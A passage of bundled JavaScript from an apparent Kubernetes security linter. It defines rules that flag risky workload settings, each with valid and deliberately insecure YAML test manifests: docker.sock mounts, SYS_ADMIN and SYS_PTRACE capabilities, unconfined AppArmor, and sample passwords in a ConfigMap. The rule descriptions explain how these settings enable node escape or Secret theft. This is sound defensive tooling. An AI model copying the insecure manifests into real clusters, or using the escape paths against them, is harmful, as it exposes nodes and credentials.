      "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "apparmor", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tutorials/security/apparmor/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const groups = /* @__PURE__ */ new Map();
    for (const view of pod.containers) {
      let path;
      let fromPod = false;
      const profile = effectiveSetting(pod, view, "appArmorProfile");
      const annotation = containerAnnotation(workload.attributes, pod, ANNOTATION_PREFIX, view.name);
      if (profile?.from === "container" || profile && !annotation) {
        if (getPath(profile.value, ["type"]) === "Unconfined") {
          path = [...profile.path, "type"];
          fromPod = profile.from === "pod";
        }
      } else if (annotation?.value === "unconfined") {
        path = annotation.path;
      }
      if (!path) continue;
      const key = JSON.stringify(path);
      const group = groups.get(key);
      if (group) group.containers.push(view.name);
      else groups.set(key, { path, containers: [view.name], pod: fromPod });
    }
    for (const group of groups.values()) {
      const where = group.pod ? `the pod securityContext of ${workload.name}` : `${workload.name}`;
      report({ at: group.path, message: `${where} runs ${containerList(group.containers)} with AppArmor unconfined` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
  annotations:
    container.apparmor.security.beta.kubernetes.io/api: runtime/default
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        appArmorProfile:
          type: RuntimeDefault
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: builder
  namespace: ci
spec:
  selector:
    matchLabels: { app: builder }
  template:
    metadata:
      labels: { app: builder }
      annotations:
        container.apparmor.security.beta.kubernetes.io/buildkit: unconfined
    spec:
      containers:
        - name: buildkit
          image: moby/buildkit:v0.15.1-rootless
        - name: agent
          image: registry.example.com/ci/agent:2.0.0
          securityContext:
            appArmorProfile:
              type: Unconfined
`,
        errors: [
          { line: 13, column: 9, messageIncludes: 'container "buildkit"' },
          { line: 22, column: 15, messageIncludes: 'container "agent"' }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-capabilities-added.ts
var k8s_capabilities_added_default = defineRule({
  meta: {
    id: "k8s-capabilities-added",
    title: "Container adds Linux capabilities beyond NET_BIND_SERVICE",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The container adds Linux capabilities other than `NET_BIND_SERVICE`, the only one the Pod Security Standards restricted profile allows; capabilities outside the baseline set (such as `AUDIT_CONTROL` or `SYS_TIME`) also break the baseline profile. Each one widens what a compromised process can do to the node. The most dangerous ones are reported by their own rules.",
    remediation: "Drop `ALL` capabilities and add back only `NET_BIND_SERVICE` when the process binds a port below 1024; redesign the workload if it needs more.",
    precision: "high",
    cwe: ["CWE-250"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.9"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["baseline", "restricted"]
    },
    tags: ["pod-security", "capabilities", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const view of pod.containers) {
      const added = capabilities(view, "add").filter(
        (entry) => entry.name !== RESTRICTED_ADDABLE_CAPABILITY && !NODE_ESCAPE_CAPABILITIES.has(entry.name) && !NETWORK_CAPABILITIES.has(entry.name)
      );
      if (added.length === 0) continue;
      const beyondBaseline = added.some((entry) => !BASELINE_CAPABILITIES.has(entry.name));
      report({
        at: added[0].path,
        message: `container "${view.name}" of ${workload.name} adds the ${added.map((entry) => entry.name).join(", ")} ${added.length === 1 ? "capability" : "capabilities"}${beyondBaseline ? " (outside the baseline set)" : ""}`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: edge
  namespace: web
spec:
  selector:
    matchLabels: { app: edge }
  template:
    metadata:
      labels: { app: edge }
    spec:
      containers:
        - name: haproxy
          image: haproxy:3.0.3
          securityContext:
            capabilities:
              drop: ["ALL"]
              add: ["NET_BIND_SERVICE"]
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: audit-tool
spec:
  containers:
    - name: auditor
      image: registry.example.com/security/auditor:3.1.0
      securityContext:
        capabilities:
          add: ["AUDIT_CONTROL", "CHOWN"]
`,
        errors: [{ line: 11, column: 17, messageIncludes: "AUDIT_CONTROL, CHOWN capabilities (outside the baseline set)" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-capabilities-not-dropped.ts
var k8s_capabilities_not_dropped_default = defineRule({
  meta: {
    id: "k8s-capabilities-not-dropped",
    title: "Container does not drop ALL capabilities",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "Without `capabilities.drop: [ALL]` the container keeps the runtime's default capability set, which includes `NET_RAW`, `CHOWN`, `DAC_OVERRIDE`, `SETUID` and `MKNOD`: more than almost any application needs, and useful to an attacker who gets code execution. The Pod Security Standards restricted profile requires dropping `ALL`.",
    remediation: 'Set `securityContext.capabilities.drop: ["ALL"]` on every container and add back only `NET_BIND_SERVICE` where a low port is needed.',
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.10"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["restricted"]
    },
    tags: ["pod-security", "capabilities", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod || isWindowsPod(pod)) return;
    for (const view of pod.containers) {
      const securityContext = view.container.securityContext;
      const drop = getPath(securityContext, ["capabilities", "drop"]);
      if (isUnknown(securityContext) || isUnknown(getPath(securityContext, ["capabilities"])) || isUnknown(drop)) continue;
      if (Array.isArray(drop) && drop.some(isUnknown)) continue;
      if (getPath(securityContext, ["privileged"]) === true) continue;
      if (capabilities(view, "drop").some((entry) => entry.name === "ALL")) continue;
      const at = drop !== void 0 ? [...view.path, "securityContext", "capabilities", "drop"] : [...view.path, "securityContext", "capabilities"];
      report({ at, message: `container "${view.name}" of ${workload.name} does not drop ALL capabilities: it keeps the runtime's default set, NET_RAW included` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        capabilities:
          drop: ["ALL"]
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
spec:
  selector:
    matchLabels: { app: api }
  template:
    metadata:
      labels: { app: api }
    spec:
      containers:
        - name: api
          image: registry.example.com/shop/api:5.0.1
          securityContext:
            capabilities:
              drop: ["NET_RAW"]
        - name: sidecar
          image: registry.example.com/shop/sidecar:1.2.0
`,
        errors: [
          { line: 18, column: 15, messageIncludes: '"api"' },
          { line: 19, column: 11, messageIncludes: '"sidecar"' }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-capability-net-raw.ts
var k8s_capability_net_raw_default = defineRule({
  meta: {
    id: "k8s-capability-net-raw",
    title: "Container adds the NET_RAW or NET_ADMIN capability",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`NET_RAW` lets a container craft raw packets (ARP and DNS spoofing of its neighbours on the node's bridge); `NET_ADMIN` lets it reconfigure interfaces, routes and firewall rules of its network namespace, or of the node's when it shares it. Neither is in the Pod Security Standards baseline set.",
    remediation: "Remove the capability. Use `ping` replacements that rely on unprivileged ICMP sockets, and leave network plumbing to the CNI plugin.",
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.8"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "capabilities", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const view of pod.containers) {
      const added = capabilities(view, "add").filter((entry) => NETWORK_CAPABILITIES.has(entry.name));
      if (added.length === 0) continue;
      report({ at: added[0].path, message: `container "${view.name}" of ${workload.name} adds the ${added.map((entry) => entry.name).join(", ")} ${added.length === 1 ? "capability" : "capabilities"}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: probe
spec:
  containers:
    - name: probe
      image: registry.example.com/tools/probe:1.1.0
      securityContext:
        capabilities:
          drop: ["NET_RAW"]
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: vpn-gateway
  namespace: network
spec:
  selector:
    matchLabels: { app: vpn-gateway }
  template:
    metadata:
      labels: { app: vpn-gateway }
    spec:
      containers:
        - name: wireguard
          image: registry.example.com/network/wireguard:1.0.20210914
          securityContext:
            capabilities:
              add: ["NET_ADMIN", "NET_RAW"]
`,
        errors: [{ line: 18, column: 21, messageIncludes: "NET_ADMIN, NET_RAW" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-configmap-credentials.ts
var k8s_configmap_credentials_default = defineRule({
  meta: {
    id: "k8s-configmap-credentials",
    title: "ConfigMap holds credentials (hardcoded secret in a ConfigMap)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["ConfigMap"],
    description: "A ConfigMap key named like a password, token or key holds a literal value, or a value contains a recognisable credential. ConfigMaps are not meant for secrets: they are readable by many more roles than Secrets, are not encrypted at rest by the API server's encryption configuration, and end up in logs and dumps.",
    remediation: "Move the credential into a Secret (created from an external secret store) and reference it from the workload; rotate the exposed value.",
    precision: "medium",
    cwe: ["CWE-798", "CWE-312"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Secrets: keep credentials out of pod specs"] },
    tags: ["secrets", "hardcoded-secret"],
    references: ["https://kubernetes.io/docs/concepts/configuration/configmap/", "https://kubernetes.io/docs/concepts/security/secrets-good-practices/"]
  },
  check(configMap, { report }) {
    const data = configMap.attributes.data;
    if (!isObject(data)) return;
    const found = [];
    for (const [key, value] of Object.entries(data)) {
      if (typeof value !== "string") continue;
      const formats = secretsInText(value);
      if (formats.length > 0) found.push({ key, what: formats[0] });
      else if (isSecretName(key) && isHardcodedSecretValue(value) && !value.includes("\n")) found.push({ key, what: "a credential" });
    }
    if (found.length === 0) return;
    report({
      at: ["data", found[0].key],
      message: `${configMap.name} holds credentials in a ConfigMap instead of a Secret: ${found.map(({ key, what }) => `${key} (${what})`).join(", ")}`
    });
  },
  examples: {
    valid: [
      {
        filename: "configmap.yaml",
        code: `apiVersion: v1
kind: ConfigMap
metadata:
  name: orders
  namespace: shop
data:
  LOG_LEVEL: info
  DB_HOST: orders-db.shop.svc
  DB_PASSWORD_FILE: /run/secrets/db/password
  application.yaml: |
    datasource:
      url: jdbc:postgresql://orders-db:5432/orders
      password: \${DB_PASSWORD}
`
      }
    ],
    invalid: [
      {
        filename: "configmap.yaml",
        code: `apiVersion: v1
kind: ConfigMap
metadata:
  name: orders
  namespace: shop
data:
  DB_HOST: orders-db.shop.svc
  DB_PASSWORD: Orders-2024!prod
  SMTP_TOKEN: 5e1f0c9a7b3d4e2f8a6c
`,
        errors: [{ line: 8, column: 3, messageIncludes: "DB_PASSWORD (a credential), SMTP_TOKEN (a credential)" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-container-runtime-socket.ts
var k8s_container_runtime_socket_default = defineRule({
  meta: {
    id: "k8s-container-runtime-socket",
    title: "Pod mounts the container runtime socket (docker.sock, containerd.sock)",
    severity: "critical",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The pod mounts the Docker, containerd or CRI-O socket of its node. Whoever can talk to that socket can start a privileged container with the node's root filesystem mounted: it is root on the node, whatever the pod's own security context says, and a read-only mount does not prevent it.",
    remediation: "Do not mount runtime sockets into workloads. Build images with rootless builders (BuildKit rootless, kaniko) and read container metadata through the Kubernetes API instead.",
    precision: "very-high",
    cwe: ["CWE-250", "CWE-668"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.12"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: restrict host filesystem access"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "host-path", "docker-socket", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/storage/volumes/#hostpath", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const volume of hostPathVolumes(pod).filter((found) => found.kind === "runtime-socket")) {
      const users = containersMounting(pod, volume.name);
      const by = users.length > 0 ? ` into ${users.map((name) => `"${name}"`).join(", ")}` : "";
      report({ at: volume.at, message: `${workload.name} mounts the container runtime socket ${volume.hostPath}${by}: root on the node` });
    }
  },
  examples: {
    valid: [
      {
        filename: "job.yaml",
        code: `apiVersion: batch/v1
kind: Job
metadata:
  name: image-build
  namespace: ci
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: build
          image: gcr.io/kaniko-project/executor:v1.23.2
          args: ["--context=git://git.example.com/shop.git", "--destination=registry.example.com/shop:1.0.0"]
`
      }
    ],
    invalid: [
      {
        filename: "job.yaml",
        code: `apiVersion: batch/v1
kind: Job
metadata:
  name: image-build
  namespace: ci
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: build
          image: docker:27.1.1-cli
          command: ["docker", "build", "-t", "registry.example.com/shop:1.0.0", "."]
          volumeMounts:
            - name: docker
              mountPath: /var/run/docker.sock
      volumes:
        - name: docker
          hostPath:
            path: /var/run/docker.sock
            type: Socket
`,
        errors: [{ line: 20, column: 13, messageIncludes: "docker.sock" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-dangerous-capabilities.ts
var k8s_dangerous_capabilities_default = defineRule({
  meta: {
    id: "k8s-dangerous-capabilities",
    title: "Container adds dangerous capabilities (SYS_ADMIN, ALL, SYS_PTRACE, SYS_MODULE)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The container adds a Linux capability that is a known way out of the container: `SYS_ADMIN` (mount, namespaces, cgroup escapes), `ALL`, `SYS_MODULE` (load kernel modules), `SYS_PTRACE` (inject into processes), `SYS_RAWIO`, `DAC_READ_SEARCH` (read any host file through open handles), `BPF` or `SYS_BOOT`. Such a container is nearly as powerful as a privileged one.",
    remediation: "Remove the capability from `securityContext.capabilities.add`, drop `ALL`, and add back only the narrow capability the process needs (often `NET_BIND_SERVICE`, or none).",
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.9"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "capabilities", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const view of pod.containers) {
      const dangerous = capabilities(view, "add").filter((entry) => NODE_ESCAPE_CAPABILITIES.has(entry.name));
      if (dangerous.length === 0) continue;
      report({
        at: dangerous[0].path,
        message: `container "${view.name}" of ${workload.name} adds the ${dangerous.map((entry) => entry.name).join(", ")} ${dangerous.length === 1 ? "capability" : "capabilities"}, enough to escape to the node`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: shop
spec:
  selector:
    matchLabels: { app: web }
  template:
    metadata:
      labels: { app: web }
    spec:
      containers:
        - name: nginx
          image: nginx:1.27.0
          securityContext:
            capabilities:
              drop: ["ALL"]
              add: ["NET_BIND_SERVICE"]
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: fuse-mounter
spec:
  containers:
    - name: mounter
      image: registry.example.com/storage/s3fs:1.94
      securityContext:
        capabilities:
          add:
            - CHOWN
            - SYS_ADMIN
    - name: tracer
      image: registry.example.com/tools/tracer:0.2.0
      securityContext:
        capabilities:
          add: ["cap_sys_ptrace"]
`,
        errors: [
          { line: 13, column: 15, messageIncludes: "SYS_ADMIN" },
          { line: 18, column: 17, messageIncludes: "SYS_PTRACE" }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-default-service-account.ts
var k8s_default_service_account_default = defineRule({
  meta: {
    id: "k8s-default-service-account",
    title: "Pod runs as the namespace's default service account with its token mounted",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The pod names no service account, so it runs as the namespace's `default` account and gets its API token. Every pod in the namespace shares that identity: a permission granted to `default` for one workload is granted to all of them, and its token is in every container.",
    remediation: "Create a ServiceAccount per workload and set `serviceAccountName`; set `automountServiceAccountToken: false` on the `default` ServiceAccount of every namespace.",
    precision: "medium",
    cwe: ["CWE-250"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.5"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["service-account", "k8s-rbac"],
    references: ["https://kubernetes.io/docs/concepts/security/service-accounts/#default-service-accounts", "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/"]
  },
  check(workload, { graph, report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const use = serviceAccountUse(pod, graph.targets(workload.id, "uses"));
    if (use.name !== "default" || isUnknown(use.accountAutomount)) return;
    if (use.podAutomount === false || use.podAutomount === void 0 && use.accountAutomount === false) return;
    if (use.podAutomount !== void 0 && use.podAutomount !== true) return;
    report({ at: use.at, message: `${workload.name} runs as the default service account of its namespace, with its API token mounted` });
  },
  examples: {
    valid: [
      {
        name: "a dedicated account; the default account with its token not mounted",
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: orders
  namespace: shop
spec:
  selector:
    matchLabels: { app: orders }
  template:
    metadata:
      labels: { app: orders }
    spec:
      serviceAccountName: orders
      containers:
        - name: orders
          image: registry.example.com/shop/orders:3.0.0
---
apiVersion: v1
kind: Pod
metadata:
  name: static-site
  namespace: web
spec:
  automountServiceAccountToken: false
  containers:
    - name: nginx
      image: nginx:1.27.0
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: orders
  namespace: shop
spec:
  selector:
    matchLabels: { app: orders }
  template:
    metadata:
      labels: { app: orders }
    spec:
      containers:
        - name: orders
          image: registry.example.com/shop/orders:3.0.0
`,
        errors: [{ line: 12, column: 5, messageIncludes: "default service account" }]
      }
    ]
  }
});

// packages/rules/src/support/kubernetes-exposure.ts
var EXTERNAL_SERVICE_TYPES = ["LoadBalancer", "NodePort"];
function externalServiceType(service) {
  const type = getPath(service.attributes, ["spec", "type"]);
  return typeof type === "string" && EXTERNAL_SERVICE_TYPES.includes(type) ? type : void 0;
}
function externalExposures(graph, workload) {
  const exposures = [];
  for (const service of graph.sources(workload.id, "selects")) {
    if (service.type !== "Service") continue;
    const type = externalServiceType(service);
    if (type) exposures.push({ by: service, at: ["spec", "type"], description: `${service.name} (${type})` });
    for (const edge of graph.edgesTo(service.id, "references")) {
      const ingress = graph.get(edge.from);
      if (ingress?.type !== "Ingress") continue;
      exposures.push({ by: ingress, at: edge.via ?? [], description: `${ingress.name} through ${service.name}` });
    }
  }
  return exposures;
}

// packages/rules/src/support/rbac-grants.ts
function rbacRules(role) {
  const rules = [];
  asList(role.attributes.rules).forEach((rule, index) => {
    if (!isObject(rule)) return;
    const read = (value) => {
      const list = asList(value);
      return { items: list.map((item) => typeof item === "string" ? item : ""), partial: isUnknown(value) || list.some(isUnknown) };
    };
    const apiGroups = read(rule.apiGroups);
    const resources = read(rule.resources);
    const verbs = read(rule.verbs);
    const resourceNames = read(rule.resourceNames);
    rules.push({
      index,
      apiGroups: apiGroups.items,
      resources: resources.items,
      verbs: verbs.items.map((verb) => verb.toLowerCase()),
      resourceNames: resourceNames.items,
      partial: apiGroups.partial || resources.partial || verbs.partial || resourceNames.partial
    });
  });
  return rules;
}
function wildcardShape(rule) {
  const verbs = rule.verbs.includes("*");
  const resources = rule.resources.includes("*");
  if (verbs && resources) return "both";
  if (verbs) return "verbs";
  if (resources) return "resources";
  return "none";
}
function coversGroup(rule, group) {
  return rule.apiGroups.includes("*") || rule.apiGroups.includes(group);
}
function namedResources(rule, wanted) {
  const matches = [];
  rule.resources.forEach((resource, index) => {
    const subresource = resource.startsWith("*/") ? resource.slice(1) : void 0;
    const hit = wanted.has(resource) || subresource !== void 0 && [...wanted].some((name) => name.endsWith(subresource));
    if (hit) matches.push({ resource, path: ["rules", rule.index, "resources", index] });
  });
  return matches;
}
function grantsAnyVerb(rule, verbs) {
  return rule.verbs.filter((verb) => verbs.includes(verb));
}
function subjectsOf(binding) {
  const subjects = [];
  asList(binding.attributes.subjects).forEach((subject, index) => {
    if (!isObject(subject) || typeof subject.kind !== "string" || typeof subject.name !== "string") return;
    subjects.push({
      kind: subject.kind,
      name: subject.name,
      ...typeof subject.namespace === "string" ? { namespace: subject.namespace } : {},
      path: ["subjects", index]
    });
  });
  return subjects;
}
function describeSubject(subject) {
  if (subject.kind === "ServiceAccount") return `service account ${subject.namespace ? `${subject.namespace}/` : ""}${subject.name}`;
  return `${subject.kind.toLowerCase()} ${subject.name}`;
}
function roleRefOf(binding) {
  const ref = binding.attributes.roleRef;
  if (!isObject(ref) || typeof ref.kind !== "string" || typeof ref.name !== "string") return void 0;
  return { kind: ref.kind, name: ref.name };
}
function explicitGrants(role, permission) {
  const grants = [];
  for (const rule of rbacRules(role)) {
    if (rule.partial || wildcardShape(rule) !== "none") continue;
    if (permission.ignoreNamed && rule.resourceNames.length > 0) continue;
    if (!permission.groups.some((group) => coversGroup(rule, group))) continue;
    const resources = namedResources(rule, permission.resources);
    const verbs = grantsAnyVerb(rule, permission.verbs);
    if (resources.length > 0 && verbs.length > 0) grants.push({ rule, resources, verbs });
  }
  return grants;
}
function describeGrant(grant) {
  return `${grant.verbs.join(", ")} on ${grant.resources.map((match) => match.resource).join(", ")}`;
}
var PUBLIC_DEFAULT_ROLES = /* @__PURE__ */ new Set([
  "system:public-info-viewer",
  "system:discovery",
  "system:basic-user",
  "system:service-account-issuer-discovery",
  "system:volume-scheduler"
]);
function broadSubjects(binding, groups, users = /* @__PURE__ */ new Set()) {
  return subjectsOf(binding).filter((subject) => subject.kind === "Group" && groups.has(subject.name) || subject.kind === "User" && users.has(subject.name));
}

// packages/rules/src/support/service-account-grants.ts
var BUILT_IN_SECRET_READERS = /* @__PURE__ */ new Set(["cluster-admin", "admin", "edit"]);
var READ_VERBS = ["get", "list", "watch", "*"];
function bindingGrant(graph, binding) {
  const ref = roleRefOf(binding);
  if (!ref || ref.kind !== "Role" && ref.kind !== "ClusterRole") return void 0;
  const role = graph.targets(binding.id, "binds").find((target) => target.type === ref.kind);
  return { binding, roleKind: ref.kind, roleName: ref.name, ...role ? { role } : {}, clusterWide: binding.type === "ClusterRoleBinding" };
}
function grantsToServiceAccount(graph, serviceAccountId) {
  return graph.sources(serviceAccountId, "binds").filter((binding) => binding.type === "RoleBinding" || binding.type === "ClusterRoleBinding").flatMap((binding) => bindingGrant(graph, binding) ?? []);
}
function everythingRuleIndex(role) {
  return rbacRules(role).find((rule) => !rule.partial && wildcardShape(rule) === "both")?.index;
}
function grantsEverything(grant) {
  if (grant.role) return everythingRuleIndex(grant.role) !== void 0;
  return grant.roleKind === "ClusterRole" && grant.roleName === "cluster-admin";
}
function secretReadRuleIndex(role) {
  return rbacRules(role).find(
    (rule) => !rule.partial && coversGroup(rule, "") && (rule.resources.includes("secrets") || rule.resources.includes("*")) && rule.resourceNames.length === 0 && rule.verbs.some((verb) => READ_VERBS.includes(verb))
  )?.index;
}
function grantReadsSecrets(grant) {
  if (grant.role) return secretReadRuleIndex(grant.role) !== void 0;
  return grant.roleKind === "ClusterRole" && BUILT_IN_SECRET_READERS.has(grant.roleName);
}

// packages/rules/src/support/kubernetes-scope.ts
function namespaceOf2(resource) {
  const namespace = getPath(resource.attributes, ["metadata", "namespace"]);
  return typeof namespace === "string" && namespace !== "" ? namespace : "default";
}
function scanHasWorkloadsIn(graph, namespace) {
  return WORKLOAD_KINDS.some((kind) => graph.findBy(kind, "kubernetes-namespace", kubernetesNamespace, namespace).length > 0);
}
function kubernetesNamespace(resource) {
  return resource.platform === "kubernetes" ? namespaceOf2(resource) : void 0;
}

// packages/rules/src/kubernetes/iam/k8s-exposed-workload-can-read-secrets.ts
var k8s_exposed_workload_can_read_secrets_default = defineRule({
  meta: {
    id: "k8s-exposed-workload-can-read-secrets",
    title: "Workload exposed outside the cluster runs as a service account that can read Secrets",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The workload is reachable from outside the cluster (a LoadBalancer or NodePort Service, or an Ingress) and its pods mount the token of a ServiceAccount that a RoleBinding or ClusterRoleBinding allows to get, list or watch Secrets. An attacker who gets code execution or a file read in the exposed process reads the token and, with it, every Secret in scope: database passwords, cloud keys, other service account tokens.",
    remediation: "Run the exposed pods as a ServiceAccount without access to Secrets, or limit the rule to the named Secrets it needs with `resourceNames`. Set `automountServiceAccountToken: false` on pods that do not call the API. Prefer a RoleBinding in one namespace to a ClusterRoleBinding.",
    precision: "medium",
    cwe: ["CWE-522", "CWE-269"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.2", "5.1.6"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac", "secrets", "network-exposure"],
    references: ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#listing-secrets"]
  },
  check(workload, { graph, report }) {
    const podSpec = podSpecOf(workload);
    if (!podSpec || podSpec.spec.automountServiceAccountToken === false) return;
    const exposure = externalExposures(graph, workload)[0];
    if (!exposure) return;
    const uses = graph.edgesFrom(workload.id, "uses").find((edge) => edge.to.includes("/ServiceAccount/"));
    if (!uses || !mountsToken(graph, uses.to, podSpec.spec.automountServiceAccountToken)) return;
    const grants = grantsToServiceAccount(graph, uses.to).filter(grantReadsSecrets).sort((a, b) => Number(b.clusterWide) - Number(a.clusterWide));
    const grant = grants[0];
    if (!grant) return;
    const account = uses.to.slice(uses.to.indexOf("/ServiceAccount/") + "/ServiceAccount/".length);
    const scope = grant.clusterWide ? "in every namespace" : `in namespace ${namespaceOf2(grant.binding)}`;
    const related = [
      { resource: exposure.by.id, at: exposure.at, message: `exposed by ${exposure.description}` },
      { resource: grant.binding.id, at: ["roleRef", "name"], message: `${grant.binding.name} grants ${grant.roleKind} ${grant.roleName} to ${account}` }
    ];
    if (grant.role) related.push({ resource: grant.role.id, at: ["rules", secretReadRuleIndex(grant.role) ?? 0, "resources"], message: `${grant.role.name} can read Secrets` });
    report({
      at: uses.via ?? [],
      message: `${workload.name} is exposed by ${exposure.description} and runs as ${account}, which can read Secrets ${scope} (${grant.binding.name})`,
      related
    });
  },
  examples: {
    valid: [
      {
        name: "exposed, but the token is not mounted",
        filename: "app.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
spec:
  selector:
    matchLabels:
      app: api
  template:
    metadata:
      labels:
        app: api
    spec:
      serviceAccountName: api
      automountServiceAccountToken: false
      containers:
        - name: api
          image: registry.example.com/api:2.3.1
---
apiVersion: v1
kind: Service
metadata:
  name: api
spec:
  type: LoadBalancer
  selector:
    app: api
  ports:
    - port: 443
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: api-secrets
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: edit
subjects:
  - kind: ServiceAccount
    name: api
    namespace: default
`
      },
      {
        name: "reads one named Secret",
        filename: "app.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
spec:
  selector:
    matchLabels:
      app: api
  template:
    metadata:
      labels:
        app: api
    spec:
      serviceAccountName: api
      containers:
        - name: api
          image: registry.example.com/api:2.3.1
---
apiVersion: v1
kind: Service
metadata:
  name: api
spec:
  type: NodePort
  selector:
    app: api
  ports:
    - port: 443
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: api-tls
rules:
  - apiGroups: [""]
    resources: ["secrets"]
    resourceNames: ["api-tls"]
    verbs: ["get"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: api-tls
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: api-tls
subjects:
  - kind: ServiceAccount
    name: api
`
      }
    ],
    invalid: [
      {
